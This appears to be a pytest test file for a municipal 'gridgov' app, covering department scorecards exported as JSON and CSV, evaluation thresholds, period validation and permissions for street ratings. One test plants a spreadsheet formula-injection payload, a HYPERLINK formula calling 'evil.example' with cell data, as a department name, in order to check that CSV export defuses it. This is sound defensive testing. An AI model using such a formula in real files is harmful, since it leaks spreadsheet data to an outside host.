"""Scorecards over HTTP (JSON and CSV) and street ratings of departments."""

from __future__ import annotations

import codecs
import csv
import io
from datetime import UTC, datetime, timedelta

from sqlalchemy import select

from gridgov.departments.models import Department
from gridgov.evaluation.quadrants import DepartmentFigures, Thresholds, city_medians, quadrant
from gridgov.incidents import actions
from gridgov.incidents.reporting import report_incident
from gridgov.users.models import User
from tests.conftest import auth

T0 = datetime(2026, 4, 1, 8, tzinfo=UTC)


def user(session, name):
    return session.scalar(select(User).where(User.username == name))


def handled(session, category, accept_after, resolve_after, rating):
    incident = report_incident(
        session, reporter_id=user(session, "gridhead").id, lon=109.1, lat=21.55,
        category_code=category, now=T0,
    ).incident  # fmt: skip
    handler = session.scalar(select(User).where(User.department_code == incident.department_code))
    actions.accept(
        session, incident_id=incident.id, actor=handler, now=T0 + timedelta(hours=accept_after)
    )
    actions.resolve(
        session,
        incident_id=incident.id,
        actor=handler,
        note="ok",
        now=T0 + timedelta(hours=resolve_after),
    )
    actions.close(
        session,
        incident_id=incident.id,
        actor=user(session, "gridhead"),
        rating=rating,
        now=T0 + timedelta(hours=resolve_after + 1),
    )
    return incident


def test_scorecards_as_json_and_csv(client, session):
    handled(session, "0102", accept_after=2, resolve_after=5, rating=4)  # community JW
    handled(session, "0102", accept_after=4, resolve_after=30, rating=2)  # late: SLA is 24 h
    params = {"from": "2026-04-01", "to": "2026-04-30"}
    body = client.get("/api/v1/evaluation", params=params, headers=auth(session, "operator")).json()
    [card] = [c for c in body["scorecards"] if c["department_code"] == "990105009003-JW"]
    assert card["assigned"] == 2 and card["accepted"] == 2
    assert card["median_accept_hours"] == 3.0
    assert card["within_sla_share"] == 0.5 and card["rating_mean"] == 3.0
    figures = DepartmentFigures("990105009003-JW", 2, 2, 3.0, 2, 1, 0, 3.0)
    assert card["effectiveness"] == round(figures.effectiveness, 4)
    thresholds = city_medians([figures])
    assert card["quadrant"] == quadrant(figures, thresholds).value
    text = client.get(
        "/api/v1/evaluation", params={**params, "format": "csv"}, headers=auth(session, "operator")
    ).content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["department_code"] for r in rows} >= {"990105009003-JW"}
    assert rows[0].keys() >= {"median_accept_hours", "within_sla_share", "quadrant"}


def test_csv_opens_safely_in_a_spreadsheet(client, session):
    """A department named like a formula is text in Excel, and Chinese needs the BOM."""
    handled(session, "0102", accept_after=2, resolve_after=5, rating=4)
    department = session.scalar(select(Department).where(Department.code == "990105009003-JW"))
    department.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    session.flush()
    answer = client.get(
        "/api/v1/evaluation",
        params={"from": "2026-04-01", "to": "2026-04-30", "format": "csv"},
        headers=auth(session, "operator"),
    )
    assert answer.content.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    [row] = [r for r in rows if r["department_code"] == "990105009003-JW"]
    assert row["department_name"] == "'" + department.name
    assert row["assigned"] == "1"  # numbers stay numbers
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values() if cell)


def test_thresholds_can_be_set(client, session):
    handled(session, "0102", accept_after=2, resolve_after=5, rating=5)
    params = {"from": "2026-04-01", "to": "2026-04-30", "speed_hours": 1, "effectiveness": 0.5}
    body = client.get("/api/v1/evaluation", params=params, headers=auth(session, "operator")).json()
    assert body["thresholds"] == {"speed_hours": 1.0, "effectiveness": 0.5}
    [card] = [c for c in body["scorecards"] if c["department_code"] == "990105009003-JW"]
    figures = DepartmentFigures("990105009003-JW", 1, 1, 2.0, 1, 1, 0, 5.0)
    assert card["quadrant"] == quadrant(figures, Thresholds(1.0, 0.5)).value == "slow_effective"


def test_bad_period_is_422(client, session):
    response = client.get(
        "/api/v1/evaluation",
        params={"from": "2026-04-30", "to": "2026-04-01"},
        headers=auth(session, "operator"),
    )
    assert response.status_code == 422
    assert client.get("/api/v1/evaluation", params={"from": "x", "to": "y"},
                      headers=auth(session, "operator")).status_code == 422  # fmt: skip


def test_streets_rate_departments_within_the_operators_area(client, session):
    body = {
        "street_code": "990105009",
        "department_code": "990105009-CG",
        "period_start": "2026-04-01",
        "period_end": "2026-04-30",
        "score": 4,
    }
    assert client.post("/api/v1/evaluation/street-ratings", json=body,
                       headers=auth(session, "operator_nw")).status_code == 201  # fmt: skip
    # An operator of another district may not rate for this street; a grid head may not rate.
    session.add(
        User(
            username="op_east",
            password_hash="-",
            display_name="东澜区",
            role="operator",
            area_code="990102",
        )
    )
    session.flush()
    assert client.post("/api/v1/evaluation/street-ratings", json=body,
                       headers=auth(session, "op_east")).status_code == 403  # fmt: skip
    assert client.post("/api/v1/evaluation/street-ratings", json=body,
                       headers=auth(session, "gridhead")).status_code == 403  # fmt: skip
    bad = client.post(
        "/api/v1/evaluation/street-ratings",
        json={**body, "score": 9},
        headers=auth(session, "operator_nw"),
    )
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "score"
    scores = client.get("/api/v1/evaluation", params={"from": "2026-04-01", "to": "2026-04-30"},
                        headers=auth(session, "operator")).json()["scorecards"]  # fmt: skip
    [card] = [c for c in scores if c["department_code"] == "990105009-CG"]
    assert card["street_rating_mean"] == 4.0
